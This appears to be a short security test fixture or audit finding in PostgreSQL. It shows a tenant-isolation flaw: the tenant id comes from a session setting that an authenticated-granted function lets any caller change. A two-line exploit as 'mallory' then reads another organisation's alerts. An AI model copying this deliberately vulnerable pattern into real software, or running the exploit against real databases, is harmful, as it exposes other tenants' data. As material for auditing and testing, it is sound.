-- channel: claims
-- object: internal.tenant_id
-- says: A session setting decides, and a function lets every caller set it.
create or replace function internal.tenant_id()
returns uuid
language sql stable
set search_path = ''
as $$
    select coalesce(
        nullif(current_setting('app.tenant_id', true), ''),
        auth.jwt() -> 'app_metadata' ->> 'tenant_id'
    )::uuid
$$;
create function public.switch_tenant(p_tenant uuid)
returns void
language sql
set search_path = ''
as $$
    select set_config('app.tenant_id', p_tenant::text, true)
$$;
grant execute on function public.switch_tenant(uuid) to authenticated;
-- exploit as mallory
select public.switch_tenant(:org_b);
select from public.alerts where tenant_id = :org_b;
-- leaks when rows
